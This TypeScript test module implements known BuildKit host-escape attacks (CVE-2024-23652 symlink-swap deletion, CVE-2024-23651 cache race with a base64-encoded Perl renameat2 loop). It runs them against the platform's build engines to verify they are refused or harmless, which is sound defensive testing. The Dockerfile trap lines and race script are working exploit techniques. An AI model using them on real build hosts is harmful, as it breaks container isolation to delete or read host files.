import { chmod, mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import type { Ids } from "../../engine/context-owner.ts";
import type { BuildTrace, Engine } from "../../engine/engine.ts";
import { provideStubs } from "../mount-stubs.ts";
import { packTar, type TarEntry } from "../tar.ts";
import type { Rewritten } from "../user-dockerfile.ts";

// Attacks on the host by a Dockerfile, as they are known of BuildKit. They can be run against any engine of this machine,
// as they are written, or as the platform would build them.

const buildMs = 120_000;

/** What the platform makes of a Dockerfile; left out: nothing. */
export type Rewrite = (text: string) => Rewritten;
export type Outcome = "refused" | "harmless" | "the host was reached";

export interface Attack {
  name: string;
  run(target: Target): Promise<Outcome>;
}

export interface Target {
  engine: Engine;
  baseImage: string;
  rewrite?: Rewrite;
  /** Makes names that nobody else has. */
  mark: string;
  /** What the engine has as its root, where it is not that of this machine. */
  root?: string;
}

/** An empty file of the host, which the engine is to remove (CVE-2024-23652). */
const removal = (
  name: string,
  /** Below a directory of the host. */
  victim: string,
  lines: (hostDir: string) => readonly string[],
): Attack => ({
  name,
  async run({ engine, baseImage, rewrite, mark, root }) {
    await using host = await openHostDir(root);
    const file = join(host.dir, victim);
    await mkdir(dirname(file), { recursive: true });
    await writeFile(file, "");
    const text = [`FROM ${baseImage}`, `ENV MARK=${mark}`, ...lines(host.known)].join("\n");
    const built = await build(engine, text, mark, rewrite);
    if (built.refused) return "refused";
    // What the platform does about it may keep the step from going on, but not from beginning.
    const reached = rewrite === undefined ? set : begunMark;
    if (!built.log.includes(reached)) throw new Error(`The attack did not get far: ${built.log}`);
    return (await exists(file)) ? "harmless" : "the host was reached";
  },
});

const begunMark = "THE STEP HAS BEGUN";
const set = "THE TRAP IS SET";
/** Written so that it is not in the text of the step itself, which engines repeat. */
const say = (text: string): string => `echo ${text.toLowerCase()} | tr a-z A-Z`;
const trap = (options: string, from: string, hostDir: string): string =>
  `RUN ${options} ${say(begunMark)} && mv ${from} /elsewhere && ln -s ${hostDir} ${from} && ${say(set)}`;

export const removals: readonly Attack[] = [
  removal("the target of a directory in memory is bent", "a", (hostDir) => [
    trap("--mount=type=tmpfs,target=/x/a", "/x", hostDir),
  ]),
  removal("the target of a cache is bent", "a/b", (hostDir) => [
    trap("--mount=type=cache,id=stubs,target=/x/a/b", "/x", hostDir),
  ]),
  removal("the target of a file of the project is bent", "a", (hostDir) => [
    trap("--mount=type=bind,source=Dockerfile,target=/x/a", "/x", hostDir),
  ]),
  removal("the target of a secret is bent", "TOKEN", (hostDir) => [
    trap("--mount=type=secret,id=TOKEN", "/run/secrets", hostDir),
  ]),
  removal("a target is bent before the step, and once more in it", "a", (hostDir) => [
    "RUN ln -s /x/a /t",
    trap("--mount=type=tmpfs,target=/t", "/x", hostDir),
  ]),
  removal("the target of a file of the engine's own is bent", "hosts", (hostDir) => [
    "RUN mkdir /bare && cp -a /bin /lib* /usr /bare/",
    "FROM scratch",
    "COPY --from=0 /bare/ /",
    trap("", "/etc", hostDir),
  ]),
];

/** Exchanges two names for as long as it is let: `a` is a directory, `b` a link to one of the host. */
const exchangeScript = `
  use POSIX ();
  my $number = (POSIX::uname())[4] eq "aarch64" ? 276 : 316;
  my ($until, $a, $b) = (time + $ARGV[0], "/c/a", "/c/b");
  while (time < $until) { for (1 .. 1000) { syscall($number, -100, $a, -100, $b, 2) == 0 or die "exchange: $!" } }
`;
/** Builds that try their luck while the names are exchanged, one after the other. */
const attemptsMs = 90_000;
const stages = 2;

/** A file of the host that a build reads through a part of a cache (CVE-2024-23651). Takes a while where it works, too. */
export const cacheRace: Attack = {
  name: "a part of a cache is exchanged for a link",
  async run({ engine, baseImage, rewrite, mark, root }) {
    await using host = await openHostDir(root);
    const secret = `secret-${mark}`;
    await writeFile(join(host.dir, "file"), secret);
    const cache = `--mount=type=cache,id=race-${mark}`;
    const program = Buffer.from(exchangeScript).toString("base64");
    const prepare = `mkdir -p /c/a && ln -sfn ${host.known} /c/b && echo ${program} | base64 -d > /exchange.pl`;
    const exchange = [
      `FROM ${baseImage}`,
      `RUN ${cache},target=/c ${prepare} && echo exchanging && perl /exchange.pl ${attemptsMs / 1000}`,
    ].join("\n");
    const attempt = (count: number): string =>
      [
        ...Array.from({ length: stages }, (_, at) => [
          `FROM ${baseImage} AS s${at}`,
          `RUN ${cache},source=a,target=/t cat /t/file && echo ${count} > /result || touch /result`,
        ]).flat(),
        "FROM scratch",
        ...Array.from({ length: stages }, (_, at) => `COPY --from=s${at} /result /${at}`),
      ].join("\n");
    if (rewrite !== undefined && "refuse" in rewrite(attempt(0))) return "refused";
    const over = new AbortController();
    const begun = Promise.withResolvers<void>();
    const exchanging = build(engine, exchange, `${mark}-x`, rewrite, over.signal, (text) => {
      if (text.includes("exchanging")) begun.resolve();
    });
    await Promise.race([begun.promise, exchanging]);
    try {
      const endsAtMs = Date.now() + attemptsMs;
      for (let count = 0; Date.now() < endsAtMs; count += 1) {
        const { log } = await build(engine, attempt(count), `${mark}-${count}`, rewrite);
        if (log.includes(secret)) return "the host was reached";
      }
      return "harmless";
    } finally {
      over.abort();
      await exchanging;
    }
  },
};

interface Built {
  refused: boolean;
  log: string;
}

/** A build that fails is as good as one that ends: the host is looked at afterwards. */
async function build(
  engine: Engine,
  text: string,
  name: string,
  rewrite: Rewrite | undefined,
  signal?: AbortSignal,
  onText: (text: string) => void = () => {},
): Promise<Built> {
  const rewritten = rewrite?.(text);
  if (rewritten !== undefined && "refuse" in rewritten) return { refused: true, log: rewritten.refuse };
  const tag = `svc-attack:${name}`;
  const within = AbortSignal.any([AbortSignal.timeout(buildMs), ...(signal === undefined ? [] : [signal])]);
  const secrets = new Map([["TOKEN", Buffer.from("of the project")]]);
  if (rewritten !== undefined) await provideStubs(engine);
  let log = "";
  const onTrace = (trace: BuildTrace): void => {
    for (const { text: part } of trace.logs) {
      log += part.toString("utf8");
      onText(part.toString("utf8"));
    }
  };
  try {
    const context = packFiles({ Dockerfile: rewritten?.text ?? text });
    await engine.buildImage(context, { tag, dockerfile: "Dockerfile", buildArgs: {}, secrets }, onTrace, within);
  } catch (cause) {
    log += `\n${String(cause)}`;
  }
  await engine.removeImage(tag);
  return { refused: false, log };
}

/** A build context. */
export const packFiles = (files: Record<string, string>) => (owner: Ids) => packTar(entriesOf(files), owner);

async function* entriesOf(files: Record<string, string>): AsyncGenerator<TarEntry> {
  for (const [name, text] of Object.entries(files)) {
    yield { kind: "bytes", name, executable: false, content: Buffer.from(text) };
  }
}

/** A directory that everybody may look into, and the path by which the engine knows it. */
async function openHostDir(root = ""): Promise<AsyncDisposable & { dir: string; known: string }> {
  const dir = await mkdtemp(join(root, tmpdir(), "svc-attack-"));
  await chmod(dir, 0o755);
  return {
    dir,
    known: dir.slice(root.length),
    [Symbol.asyncDispose]: () => rm(dir, { recursive: true, force: true }),
  };
}

const exists = (path: string): Promise<boolean> =>
  readFile(path).then(
    () => true,
    () => false,
  );
